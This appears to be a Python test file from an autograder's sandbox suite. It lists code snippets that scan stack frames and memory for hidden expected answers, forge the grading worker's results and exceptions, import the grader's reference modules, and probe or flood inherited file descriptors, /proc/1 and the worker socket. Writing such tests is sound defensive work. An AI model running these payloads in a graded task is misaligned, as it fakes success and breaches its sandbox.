"""Walks over frames, objects in memory and descriptors, for tests and for the worker."""

from tests.attacks.attack import Attack

ATTACKS = (
    Attack(
        "frames above",
        "walks all frames above a hidden test's call for what is expected",
        "import sys\ndef norm(x, p):\n    frame = sys._getframe()\n    while frame:\n"
        "        for name, value in {**frame.f_globals, **frame.f_locals}.items():\n"
        "            if 'expect' in name or 'approx' in str(type(value)): return value\n"
        "        frame = frame.f_back\n    return 0",
    ),
    Attack(
        "objects in memory",
        "searches all objects for tests, approximations and expected values",
        "import gc\nfor o in gc.get_objects():\n"
        "    if type(o).__name__ in ('ApproxScalar', 'HiddenTests', 'Student', 'Link', 'Session',\n"
        "                            'Function', 'Mark', 'MarkDecorator'): tell(type(o))\n"
        "    if isinstance(o, str) and 'signs_do_not' + '_cancel' in o: tell(o)",
    ),
    Attack(
        "a forged call",
        "replaces what the worker does for calls and names",
        "import gc\nfor o in gc.get_objects():\n"
        "    if type(o).__name__ == 'Worker':\n"
        "        o._operations['call'] = lambda *a: {'value': True, 'buffers': []}\n"
        "        o._operations['name'] = lambda *a: {'value': ['h', 0, 'x'], 'buffers': []}\n"
        "        o._operations['operator'] = lambda *a: {'value': 1.25, 'buffers': []}",
    ),
    Attack(
        "a forged exception",
        "has the worker describe every outcome as the ValueError that is wanted",
        "import gc\nfor o in gc.get_objects():\n"
        "    if type(o).__name__ == 'Worker':\n"
        "        o._operations['call'] = lambda *a: {'error': {'type': 'ValueError',\n"
        "            'message': '', 'frames': []}, 'memory': [], 'containers': []}\n"
        "def norm(x, p): pass\ndef add(A, B, C): pass",
    ),
    Attack(
        "modules of the grader",
        "imports the grader's packages and the reference from the Python installation",
        "import importlib, sys\n"
        "sys.path += ['/work', '/home', '/root', '/mnt', '/', '/usr/src', '/opt']\n"
        "for name in ('autograder.grading.engine', 'autograder.hidden_tests', 'course_lib.norms',\n"
        "             'course_lib', 'tests.grading.small'):\n"
        "    try: tell(importlib.import_module(name).__file__)\n"
        "    except BaseException: pass",
    ),
    Attack(
        "inherited descriptors",
        "reads, writes and seeks in every open descriptor",
        "import os\nfor fd in range(3, 256):\n"
        "    try: link = os.readlink(f'/proc/self/fd/{fd}')\n    except OSError: continue\n"
        "    if not link.startswith(('socket:', '/dev/', '/tmp/', 'pipe:', '/proc', 'anon')):\n"
        "        tell(link)\n"
        "    if link.startswith(('/tmp/', '/proc')): continue\n"
        "    try:\n        os.lseek(fd, 0, 0)\n        data = os.read(fd, 100)\n"
        "    except OSError: continue\n    if data: tell(data)",
    ),
    Attack(
        "descriptors of the first process",
        "opens what bubblewrap holds open, by its folder in /proc",
        "import os\nfor name in os.listdir('/proc/1/fd'):\n"
        "    try:\n        link = os.readlink('/proc/1/fd/' + name)\n"
        "        if link.startswith('/') and not link.startswith('/dev/'): tell(link)\n"
        "        if not link.startswith('pipe:'): continue\n"
        "        fd = os.open('/proc/1/fd/' + name, os.O_RDWR | os.O_NONBLOCK)\n"
        "        for _ in range(64): os.write(fd, b'x' * 4096)\n"
        "    except OSError: pass",
    ),
    Attack(
        "sibling socket",
        "passes descriptors over the wire to the grader, and asks who is at its other end",
        "import gc, os, socket, struct\n"
        "stream = next(o for o in gc.get_objects() if type(o).__name__ == 'Worker').stream\n"
        "creds = stream.getsockopt(socket.SOL_SOCKET, 17, 12)\n"
        "pid = struct.unpack('3i', creds)[0]\nif pid: tell(pid)\n"
        "fd = os.open('/dev/zero', os.O_RDONLY)\n"
        "def norm(x, p): socket.send_fds(stream, [b'x' * 9], [fd] * 50)",
    ),
)
